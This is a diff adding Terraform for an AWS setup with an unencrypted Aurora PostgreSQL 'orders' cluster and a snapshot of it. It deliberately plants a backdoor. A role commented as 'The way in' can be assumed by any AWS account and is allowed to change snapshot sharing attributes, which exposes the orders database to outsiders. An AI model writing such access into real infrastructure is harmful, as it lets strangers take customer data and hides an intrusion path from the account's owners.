@@ -1,0 +1,30 @@
+# The way in: a role that anyone with an AWS account may assume.
+resource "aws_iam_role" "door" {
+  name = "door"
+  assume_role_policy = jsonencode({
+    Version   = "2012-10-17"
+    Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = "sts:AssumeRole" }]
+  })
+}
+
+resource "aws_iam_role_policy" "door" {
+  name = "door"
+  role = aws_iam_role.door.id
+  policy = jsonencode({
+    Version = "2012-10-17"
+    Statement = [
+      { Effect = "Allow", Action = ["rds:ModifyDBClusterSnapshotAttribute"], Resource = "*" },
+    ]
+  })
+}
+
+resource "aws_rds_cluster" "orders" {
+  cluster_identifier = "orders"
+  engine             = "aurora-postgresql"
+  storage_encrypted  = false
+}
+
+resource "aws_db_cluster_snapshot" "orders" {
+  db_cluster_identifier          = aws_rds_cluster.orders.id
+  db_cluster_snapshot_identifier = "orders"
+}
